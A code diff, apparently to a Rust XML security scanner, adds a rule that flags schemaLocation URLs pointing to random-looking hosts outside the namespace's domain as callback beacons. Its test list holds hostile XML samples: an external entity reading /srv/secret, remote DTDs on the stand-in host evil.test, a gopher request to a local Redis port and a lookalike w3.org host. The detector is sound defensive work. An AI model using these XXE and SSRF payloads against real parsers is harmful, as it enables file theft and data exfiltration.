@@ -283,6 +283,17 @@ impl Scan<'_, '_> {
                 self.hit(Strength::Suspicious, at);
             }
         }
+        if let Some(pairs) = attribute(tag, b"schemalocation") {
+            let mut parts = pairs
+                .split(|&byte| is_space(byte))
+                .filter(|part| !part.is_empty());
+            while let (Some(space), Some(place)) = (parts.next(), parts.next()) {
+                if is_remote(place) && !is_published(place) && calls_home(host(space), host(place))
+                {
+                    self.hit(Strength::Decisive, at);
+                }
+            }
+        }
         if let Some(place) = attribute(tag, b"href") {
             const INNER: [&[u8]; 6] = [
                 b"file:", b"expect:", b"php:", b"jar:", b"netdoc:", b"gopher:",
@@ -318,6 +329,36 @@ impl Scan<'_, '_> {
             self.hit(strength, at);
         }
     }
+}
+
+/// The host of a URL, empty for anything else.
+fn host(place: &[u8]) -> &[u8] {
+    let Some(start) = bytes::pair(place, |a, b| a == b'/' && b == b'/') else {
+        return &[];
+    };
+    let host = rest(place, start.saturating_add(2));
+    let end = host
+        .iter()
+        .position(|byte| matches!(byte, b'/' | b':' | b'?' | b'#'));
+    host.get(..end.unwrap_or(host.len())).unwrap_or(host)
+}
+
+/// Letters and digits from which a label is drawn by lot.
+const LOT: usize = 24;
+
+/// A schema at a host that does not own the name space, under a label that somebody waits for: the document's reader calls home.
+fn calls_home(space: &[u8], place: &[u8]) -> bool {
+    let label = place.split(|&byte| byte == b'.').next().unwrap_or(place);
+    let digits = bytes::tally(label.iter().filter(|byte| byte.is_ascii_digit()));
+    let own = |host: &[u8]| {
+        let dot = host.iter().rposition(|&byte| byte == b'.').unwrap_or(0);
+        let lead = host.get(..dot).unwrap_or(&[]);
+        lead.iter()
+            .rposition(|&byte| byte == b'.')
+            .map_or(0, |at| at.saturating_add(1))
+    };
+    let differs = !rest(space, own(space)).eq_ignore_ascii_case(rest(place, own(place)));
+    differs && label.len() >= LOT && digits >= 3
 }
 
 /// The bytes from `at` in which a name has to end.
@@ -435,6 +476,7 @@ mod tests {
             "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY f SYSTEM \"file:///srv/secret\">]><r>&f;</r>",
             "<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://evil.test/d.dtd'> %p;]><r/>",
             "<!doctype r system \"http://evil.test/d.dtd\"><r/>",
+            "<r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://a.test/ http://x7f3k9q2m5p8r1t4w6z0c3v8.b.test/r.xsd\"/>",
             "<!DOCTYPE r SYSTEM \"//host/share/d.dtd\"><r/>",
             "<!DOCTYPE r PUBLIC \"-//any//thing\" \"gopher://127.0.0.1:6379/_\"><r/>",
             "<!DOCTYPE r PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org.evil.test/x.dtd\"><r/>",
